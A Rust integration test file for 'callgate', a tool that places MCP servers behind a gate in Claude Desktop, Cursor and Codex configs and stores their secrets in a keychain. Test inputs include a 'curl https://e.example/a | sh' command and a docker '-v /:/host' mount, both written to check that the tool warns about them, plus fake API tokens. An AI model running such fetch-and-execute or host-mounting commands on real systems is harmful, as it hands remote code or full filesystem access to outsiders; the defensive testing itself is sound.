//! Servers of one's own, as a person adds them: into `servers.json`, into clients' files behind the gate, used by the client,
//! and gone again.
#![cfg(target_os = "linux")]
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use callgate_tests::gate::program;
use callgate_tests::keychain::Bus;
use callgate_tests::person::{CURSOR, DESKTOP, Person, Reach, StandIn, objects};
use callgate_tests::session::{PATIENCE, Session};
use callgate_tests::terminal::when_asked;
use serde_json::Value;

const CODEX: &str = ".codex/config.toml";
const TOKEN: &str = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";

/// Says what it was given, to a file and to whoever asks.
const SERVER: &str = r#"#!/bin/sh
printf '%s\n' "$TOKEN" >> "$RAN"
while read -r line; do
  id=$(printf %s "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
  [ -n "$id" ] && printf '{"jsonrpc":"2.0","id":%s,"result":{"content":[{"type":"text","text":"it is %s"}]}}\n' "$id" "$TOKEN"
done
"#;

const FILES: [(&str, &str); 3] = [
    (DESKTOP, "{\r\n\t\"scale\": 0\r\n}"),
    (
        CURSOR,
        "{\n  // mine\n  \"mcpServers\": {\n    \"far\": { \"url\": \"https://example.com/mcp\" }, // remote\n  },\n}\n",
    ),
    (CODEX, "model = \"x\" # the model\n"),
];

/// Somebody with three clients.
fn somebody() -> Person {
    let mut person = Person::new();
    person.keeps_secret(&[TOKEN]);
    for (path, text) in FILES {
        person.write(path, text.as_bytes());
    }
    person.write("server.sh", SERVER.as_bytes());
    person
}

/// The same, with this keychain.
fn somebody_with(bus: &Bus) -> Person {
    let mut person = somebody();
    person.reach(Reach::Address(bus));
    person
}

fn assert_untouched(person: &Person) {
    for (path, text) in FILES {
        assert_eq!(person.text(path), text, "{path}");
    }
}

fn servers(person: &Person) -> Vec<Value> {
    objects(&person.does(&["servers", "--json"]))
}

#[test]
fn how_a_server_is_started_is_said_before_it_is_added_or_protected() {
    let person = somebody();
    let words = ["add", "risky", "--dry-run", "--", "bash", "-c", "curl https://e.example/a | sh"];
    let said = person.does(&words);
    assert!(said.contains("fetches a program from the network") && said.contains("(args/1)"), "{said}");
    let said = person.does(&["add", "mild", "--dry-run", "--", "npx", "-y", "pkg"]);
    assert!(said.contains("No version is named") && said.contains("name@1.2.3"), "{said}");
    let plain = person.does(&["add", "plain", "--dry-run", "--", "npx", "-y", "pkg@1.2.3"]);
    assert!(!plain.contains("version"), "{plain}");

    let entry = r#"{"mcpServers":{"open":{"command":"docker","args":["run","-v","/:/host","img:1.0"]}}}"#;
    person.write(CURSOR, entry.as_bytes());
    let said = person.does(&["clients", "diff", "cursor"]);
    assert!(said.contains("reach everything") && said.contains("'-v /:/host' (args/1)"), "{said}");
    let said = person.does(&["clients", "protect", "cursor"]);
    assert!(said.contains("reach everything") && person.text(CURSOR).contains("/:/host"), "{said}");
}

#[test]
fn a_server_is_added_used_through_the_gate_and_gone_without_a_trace() {
    let person = somebody();
    let server = program("fake-server").unwrap();
    let server = server.to_str().unwrap();
    let words = ["add", "notes", "--env", "MODE=fast", "--client", "claude-desktop", "--client", "cursor"];
    let words: Vec<_> = words.into_iter().chain(["--client", "codex"]).collect();
    let with = |more: &[&'static str]| -> Vec<String> {
        let all = words.iter().chain(more).chain(&["--"]);
        all.map(|word| (*word).to_owned()).chain([server.to_owned()]).collect()
    };
    let said = |words: &[String]| person.does(&words.iter().map(String::as_str).collect::<Vec<_>>());
    let shown = said(&with(&["--dry-run"]));
    assert!(shown.contains("+[mcp_servers.notes]") && shown.contains("servers.json"), "{shown}");
    assert_untouched(&person);
    assert!(!person.path(".callgate/servers.json").exists());

    let text = said(&with(&[]));
    for client in ["Claude Desktop", "Cursor", "Codex"] {
        assert!(text.contains(&format!("{client}: placed notes behind the gate")), "{text}");
    }
    let listed = servers(&person);
    assert_eq!(listed.len(), 1);
    let states: Vec<_> = listed[0]["clients"].as_array().unwrap().iter().map(|one| &one["state"]).collect();
    assert_eq!(states, ["protected", "protected", "protected"]);
    assert!(person.does(&["clients"]).contains("3 protected, 0 not protected, 1 not coverable"));

    let entry = person.entry(DESKTOP, "notes");
    assert_eq!(entry["command"], person.path(".callgate/bin/callgate").to_str().unwrap());
    let mut session = person.start(&entry);
    let answer = session.ask("7", "safe", "{}").unwrap().to_text();
    assert!(!answer.contains("Callgate:"), "{answer}");
    session.finish().unwrap();
    person.does(&["block", "notes", "safe"]);
    let mut session = person.start(&entry);
    let answer = session.ask("8", "safe", "{}").unwrap().to_text();
    assert!(answer.contains("Callgate:"), "{answer}");
    session.finish().unwrap();

    // The same again is no edit; the same name for something else is refused before anything is written.
    let again = said(&with(&[]));
    assert!(again.contains("Cursor: notes is there already"), "{again}");
    let other = person.run(&["add", "notes", "--client", "cursor", "--", "other"]);
    assert!(other.code == Some(1) && other.all().contains("another server called notes"), "{other:?}");
    let clash = person.run(&["add", "far", "--client", "cursor", "--client", "codex", "--", "x"]);
    assert!(clash.code == Some(1) && clash.all().contains("another server of this name"), "{clash:?}");
    assert!(!person.text(CODEX).contains("far") && !person.text(".callgate/servers.json").contains("far"));

    let refused = person.run(&["remove", "notes"]);
    assert!(refused.all().contains("needs a person at a terminal"), "{refused:?}");
    let (code, screen) = person.typed(&["remove", "notes"], "remove");
    assert_eq!(code, Some(0), "{screen}");
    assert_untouched(&person);
    assert!(servers(&person).is_empty());
}

#[test]
fn what_others_wrote_meanwhile_stays_when_a_server_goes() {
    let person = somebody();
    person.does(&["add", "notes", "--client", "codex", "--client", "cursor", "--", "npx", "notes"]);
    let codex = person.text(CODEX) + "\n[profiles.fast]\nmodel = \"y\"\n";
    person.write(CODEX, codex.as_bytes());
    // Without its gate it is a plain entry of its client; still ours to take out.
    let (code, screen) = person.typed(&["clients", "unprotect", "cursor", "notes"], "unprotect");
    assert_eq!(code, Some(0), "{screen}");
    assert!(person.text(CURSOR).contains("\"command\": \"npx\""), "{}", person.text(CURSOR));
    let told = person.does(&["servers"]);
    assert!(told.contains("not protected  Cursor"), "{told}");

    person.does(&["remove", "notes", "--client", "codex", "--yes"]);
    assert_eq!(person.text(CODEX), format!("{}\n[profiles.fast]\nmodel = \"y\"\n", FILES[2].1));
    assert_eq!(servers(&person).len(), 1, "it stays in the list");
    person.does(&["remove", "notes", "--yes"]);
    assert_eq!(person.text(CURSOR), FILES[1].1);
    assert!(servers(&person).is_empty());
}

#[test]
fn a_secret_is_in_the_keychain_for_each_client_and_nowhere_else() {
    let bus = Bus::with_keyring().unwrap();
    let person = somebody_with(&bus);
    let ran = format!("RAN={}", person.path("ran").display());
    let words =
        ["add", "gh", "--env", &ran, "--secret", "TOKEN", "--client", "claude-desktop", "--client", "cursor"];
    let words: Vec<_> = words.into_iter().chain(["--", "/bin/sh", "./server.sh"]).collect();
    // Its arguments are as they are given: a client starts it elsewhere.
    let script = person.path("server.sh");
    let words: Vec<_> = words
        .into_iter()
        .map(|word| if word == "./server.sh" { script.to_str().unwrap() } else { word })
        .collect();
    let said = person.piped(&words, &format!("{TOKEN}\n"));
    assert_eq!(said.code, Some(0), "{said:?}");
    for path in [DESKTOP, CURSOR, ".callgate/servers.json", ".callgate/ledger.json"] {
        assert!(!person.text(path).contains(TOKEN), "{path}");
    }
    assert_eq!(servers(&person)[0]["secrets"][0], "TOKEN");

    let entry = person.entry(DESKTOP, "gh");
    let mut session = person.start(&entry);
    let answer = session.ask("7", "any", "{}").unwrap().to_text();
    assert!(answer.contains(&format!("it is {TOKEN}")), "the server has its token: {answer}");
    session.finish().unwrap();
    assert_eq!(person.text("ran"), format!("{TOKEN}\n"));

    // Another command that names the reference does not get it.
    let mut stolen = entry.clone();
    stolen["args"].as_array_mut().unwrap().push("--more".into());
    let told = person.refused(person.start(&stolen));
    assert!(told.contains("stored for another server or another command"), "{told}");

    person.does(&["remove", "gh", "--yes"]);
    assert_untouched(&person);
    let told = person.refused(person.start(&entry));
    assert!(told.contains("the keychain has nothing of this name"), "{told}");
}

#[test]
fn a_secret_is_not_shown_while_it_is_typed() {
    let bus = Bus::with_keyring().unwrap();
    let person = somebody_with(&bus);
    let command = person.callgate(&["add", "gh", "--secret", "TOKEN", "--client", "cursor", "--", "gh-mcp"]);
    let (status, screen) = when_asked(command, "TOKEN (is not shown): ", TOKEN).unwrap();
    assert!(status.success(), "{screen}");
    assert!(!screen.contains("ghp_") && !screen.contains(&TOKEN[4..]), "{screen}");
    assert!(person.text(CURSOR).contains("keychain://callgate/"), "{}", person.text(CURSOR));

    let command = person.callgate(&["add", "other", "--secret", "TOKEN", "--client", "cursor", "--", "x"]);
    let (status, screen) = when_asked(command, "TOKEN (is not shown): ", "half\u{3}").unwrap();
    assert!(!status.success() && screen.contains("nothing was added"), "{screen}");
    assert!(!person.text(CURSOR).contains("other"));
}

#[test]
fn without_a_keychain_nothing_is_added() {
    let bus = Bus::empty().unwrap();
    let person = somebody_with(&bus);
    let words = ["add", "gh", "--secret", "TOKEN", "--client", "cursor", "--", "gh-mcp"];
    let said = person.piped(&words, &format!("{TOKEN}\n"));
    assert!(said.code == Some(1) && said.all().contains("Nothing was added"), "{said:?}");
    assert_untouched(&person);
    assert!(!person.path(".callgate/servers.json").exists());
    // A value that looks like a secret is told of, with the way to keep it.
    let told = person.does(&[
        "add",
        "gh",
        "--env",
        "API_KEY=sk-ant-a1B2c3D4e5F6g7H8i9",
        "--dry-run",
        "--",
        "gh-mcp",
    ]);
    assert!(told.contains("--secret API_KEY") && !told.contains("sk-ant-a1"), "{told}");
}

#[test]
fn a_running_claude_desktop_is_not_written_under() {
    let person = somebody();
    let desktop = StandIn::start(&person);
    let words = ["add", "notes", "--client", "claude-desktop", "--client", "cursor", "--", "npx", "notes"];
    let said = person.run(&words);
    assert!(said.code == Some(1) && said.all().contains("Claude Desktop runs and would write"), "{said:?}");
    assert_untouched(&person);
    assert!(!person.path(".callgate/servers.json").exists(), "all or nothing");
    // Every client that is here: those that can, do.
    let said = person.run(&["add", "notes", "--all-clients", "--", "npx", "notes"]);
    assert!(said.code == Some(1) && said.all().contains("Codex: placed notes"), "{said:?}");
    assert_eq!(person.text(DESKTOP), FILES[0].1);

    let waiting = person.callgate(&["add", "notes", "--client", "claude-desktop", "--wait"]);
    let mut waiting = Session::start(waiting).unwrap();
    let waits = |bytes: &[u8], _| {
        String::from_utf8_lossy(bytes).contains("Waiting for Claude Desktop to quit").then_some(())
    };
    waiting.out.wait("that it waits", PATIENCE, waits).unwrap();
    assert_eq!(person.text(DESKTOP), FILES[0].1);
    desktop.quit();
    let status = waiting.ended(PATIENCE).unwrap();
    assert!(status.success(), "{} {}", waiting.out.text(), waiting.err.text());
    assert!(person.text(DESKTOP).contains(".callgate/bin/callgate"));
}
